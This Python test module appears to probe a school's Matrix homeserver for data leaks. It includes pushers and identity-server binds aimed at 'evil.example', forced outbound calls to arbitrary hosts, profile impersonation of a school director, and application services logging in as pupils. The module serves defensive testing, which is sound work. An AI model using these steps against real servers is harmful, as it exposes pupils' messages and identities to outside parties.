"""H: what leads out of the school, and who listens in."""

from __future__ import annotations

import asyncio
import json
import secrets
from dataclasses import replace
from functools import partial
from typing import TYPE_CHECKING

from tests.contour.actors import quoted
from tests.contour.attack import Group, differs
from tests.contour.sight import until

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable

    from tests.contour.actors import Actor, Json
    from tests.contour.sight import Leak
    from tests.contour.world import World

attack = Group()


@attack("H01", "a pupil proves to a third party who it is")
async def _(world: World) -> Leak:
    answer = await world.s1.post(f"user/{world.s1.user_id}/openid/request_token")
    token = answer.body.get("access_token", "")
    told = await world.forged.get(f"openid/userinfo?access_token={token}")
    return str(told.body) if world.s1.user_id in str(told.body) else ""


@attack("H03", "a pupil ties a phone or e-mail to the account", works_without=False)
async def _(world: World) -> Leak:
    body: Json = {
        "client_secret": "secret",
        "email": "s1@evil.example",
        "send_attempt": 1,
        "id_server": "evil.example",
        "id_access_token": "x",
        "sid": "1",
    }
    await world.s1.post("account/3pid/email/requestToken", body)
    await world.s1.post("account/3pid/add", body)
    await world.s1.post("account/3pid/bind", body)
    bound = (await world.s1.get("account/3pid")).body.get("threepids")
    return str(bound) if bound else ""


@attack("H03b", "a pupil has the server send a signed text to any host")
async def _(world: World) -> Leak:
    knocks: list[object] = []

    async def knocked(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        knocks.append(writer.get_extra_info("peername"))
        writer.close()

    async with await asyncio.start_server(knocked, "127.0.0.1", 0) as host:
        port = host.sockets[0].getsockname()[1]
        body = {"medium": "email", "address": "a word", "id_server": f"127.0.0.1:{port}"}
        await world.s1.post("account/3pid/unbind", body)
    return f"the host was called: {knocks}" if knocks else ""


@attack("H04", "a pupil has messages pushed to any address")
async def _(world: World) -> Leak:
    pupil = await world.person("class/7b/pupils")
    body = {
        "kind": "http",
        "app_id": "evil",
        "pushkey": "key",
        "app_display_name": "x",
        "device_display_name": "x",
        "lang": "ru",
        "data": {"url": "https://evil.example/_matrix/push/v1/notify"},
    }
    await pupil.post("pushers/set", body)
    pushers = (await pupil.get("pushers")).body["pushers"]
    return str(pushers) if pushers else ""


@attack("H05", "a pupil's client is to use services of a third party", works_without=False)
async def _(world: World) -> Leak:
    """Such settings are the client's: nobody else reads them, and the server follows none."""
    pupil = await world.person("class/7b/pupils")
    word = f"evil{secrets.token_hex(4)}"
    below = f"user/{pupil.user_id}/account_data"
    for kind, content in (
        ("m.identity_server", {"base_url": f"https://{word}.example"}),
        ("im.vector.setting.integration_provisioning", {"enabled": True}),
        ("m.widgets", {word: {"content": {"url": f"https://{word}.example"}}}),
    ):
        await pupil.put(f"{below}/{kind}", content)
    leak = ""
    for actor in (world.o, world.s2, world.a1):
        read = await actor.get(f"{below}/m.identity_server")
        seen = await world.sync(actor, account_data={})
        leak += f"{actor.user_id} reads it; " if word in f"{read.body}{seen}" else ""
    # An invite by e-mail would go to the server of the setting, if the request named none.
    for more in ({}, {"id_server": f"{word}.example", "id_access_token": "x"}):
        address = {"medium": "email", "address": "x@evil.example", **more}
        answer = await pupil.post(f"rooms/{world.rooms['pupils']}/invite", address)
        leak += "an address is invited; " if answer.status == 200 else ""
    return leak


@attack("H06", "a pupil's phone number in the profile is seen by classmates")
async def _(world: World) -> Leak:
    pupil = await world.person("class/7b/pupils")
    path = f"profile/{pupil.user_id}/org.example.phone"
    await pupil.put(path, {"org.example.phone": "+79990000000"})
    seen = await world.s2.get(f"profile/{pupil.user_id}")
    return str(seen.body) if "+7999" in str(seen.body) else ""


async def _shown(world: World, field: str, value: str) -> Leak:
    """Have a pupil change its profile; look with a classmate's eyes."""
    pupil = await world.person("class/7b/pupils")
    await pupil.put(f"profile/{pupil.user_id}/{field}", {field: value})
    seen = await world.s2.get(f"profile/{pupil.user_id}")
    return str(seen.body) if seen.body.get(field) == value else ""


attack.each(
    "H09",
    "a pupil appears as somebody else",
    {
        "a": partial(_shown, field="displayname", value="Директор школы"),
        "b": partial(_shown, field="avatar_url", value="mxc://evil.example/picture"),
    },
)


@attack("H10", "a pupil looks for rooms of another server")
async def _(world: World) -> Leak:
    leak = ""
    for answer in (
        await world.s1.get("publicRooms", server=world.remote.name),
        await world.s1.post("publicRooms", {}, server=world.remote.name),
    ):
        found = world.remote_public in json.dumps(answer.body)
        leak += "the other server's rooms are listed; " if found else ""
    return leak


@attack("H11", "a pupil looks at the profile of somebody of another server")
async def _(world: World) -> Leak:
    answer = await world.s1.get(f"profile/{world.m.user_id}")
    return str(answer.body) if answer.status == 200 else ""


@attack("H12", "a pupil follows an alias of another server")
async def _(world: World) -> Leak:
    answer = await world.s1.get(f"directory/room/{world.remote_alias.replace('#', '%23')}")
    return str(answer.body) if answer.status == 200 else ""


async def _summary(world: World, room: str, via: str) -> object:
    path = f"/_matrix/client/v1/room_summary/{quoted(room)}"
    return (await world.s1.get(path, via=via)).body


async def _hierarchy(world: World, room: str, via: str) -> object:
    space = await world.s1.create(creation_content={"type": "m.space"})
    assert space, "a pupil's own space was refused"
    await world.s1.set_state(space, "m.space.child", {"via": [via]}, room)
    return (await world.s1.get(f"/_matrix/client/v1/rooms/{space}/hierarchy")).body


async def _reads_afar(world: World, how: Callable[[World, str, str], Awaitable[object]]) -> Leak:
    """Read about a room that nobody here is in: who made it writes to the pupil so."""
    word = secrets.token_hex(6)
    room = await world.m.create(preset="public_chat", name=word, topic=word)
    told = str(await how(world, room, world.remote.name))
    return told if word in told else ""


attack.each(
    "H18",
    "a pupil reads the name and topic of a room of another server",
    {"a": partial(_reads_afar, how=_summary), "b": partial(_reads_afar, how=_hierarchy)},
)


async def _asks_afar(world: World, method: str, path: str) -> Leak:
    pupil = await world.person("class/7b/pupils")
    known, unknown = world.remote_alias, f"#nothing:{world.remote.name}"
    one, other = [
        await pupil.call(method, path.format(quoted(alias))) for alias in (known, unknown)
    ]
    return differs(one, other, known, unknown)


attack.each(
    "H19",
    "a pupil has another server asked about an alias: its answer shows",
    {
        "a": partial(_asks_afar, method="POST", path="join/{}"),
        "b": partial(_asks_afar, method="PUT", path="join/{}/t"),
        "c": partial(_asks_afar, method="POST", path="knock/{}"),
        "d": partial(_asks_afar, method="GET", path="/_matrix/client/v1/room_summary/{}"),
    },
)


@attack("H15", "a pupil asks for devices of somebody of another server")
async def _(world: World) -> Leak:
    answer = await world.s1.post("keys/query", {"device_keys": {world.m.user_id: []}})
    return "they are shown" if world.m.device in json.dumps(answer.body) else ""


@attack("H07", "an application service that claims a pupil hears the class")
async def _(world: World) -> Leak:
    room, pupil = await _claimed(world)
    word, fence = secrets.token_hex(8), secrets.token_hex(8)
    await world.s1.say(room, word)
    claimed = await world.person(name="wide")
    await claimed.say(await claimed.create(), fence)
    await until(lambda: _heard(world, fence), 10)
    del pupil
    return "the application service got the message" if await _heard(world, word) else ""


async def _claimed(world: World) -> tuple[str, Actor]:
    """Put a pupil whom another application service claims into a class's room."""
    room = await world.loose_room(loose=False)
    pupil = await world.person("class/7b/pupils", name="wide")
    await world.bot.invite(room, pupil.user_id)
    assert (await pupil.join(room)).status == 200
    await world.s1.say(room, world.secrets.message)
    return room, pupil


async def _heard(world: World, word: str) -> bool:
    return any(word in text for text in world.transactions)


@attack("H08", "an application service acts in the name of a pupil it claims")
async def _(world: World) -> Leak:
    room, pupil = await _claimed(world)
    played = replace(world.as3, user_id=pupil.user_id, query={"user_id": pupil.user_id})
    answer = await played.get(f"rooms/{room}/messages", dir="b")
    return f"it reads {room}" if answer.status == 200 else ""


@attack("H20", "an application service logs in as a pupil it claims")
async def _(world: World) -> Leak:
    _room, pupil = await _claimed(world)
    body = {
        "type": "m.login.application_service",
        "identifier": {"type": "m.id.user", "user": pupil.user_id},
    }
    answer = await world.as3.post("login", body)
    return "it is logged in" if answer.status == 200 else ""


@attack("H21", "an application service asks who is in the room of a pupil it claims")
async def _(world: World) -> Leak:
    room, _pupil = await _claimed(world)
    answer = await world.as3.get(f"rooms/{room}/joined_members")
    return str(answer.body) if world.s1.user_id in str(answer.body) else ""


@attack("H16", "a new device of a pupil is told to another server", works_without=False)
async def _(world: World) -> Leak:
    await world.s1.put(f"devices/{world.s1.device}", {"display_name": world.secrets.device})
    await world.fence(world.o2, world.m2)
    since = await world.sync(world.m)
    changed = since.get("device_lists", {}).get("changed", [])
    return str(changed) if world.s1.user_id in changed else ""


@attack("H17", "the presence of a pupil is seen from another server", works_without=False)
async def _(world: World) -> Leak:
    await world.s1.put(f"presence/{world.s1.user_id}/status", {"presence": "online"})
    answer = await until(lambda: _online(world), 0.3)
    return str(answer) if answer else ""


async def _online(world: World) -> Json:
    answer = await world.m.get(f"presence/{world.s1.user_id}/status")
    return answer.body if answer.status == 200 and "online" in str(answer.body) else {}
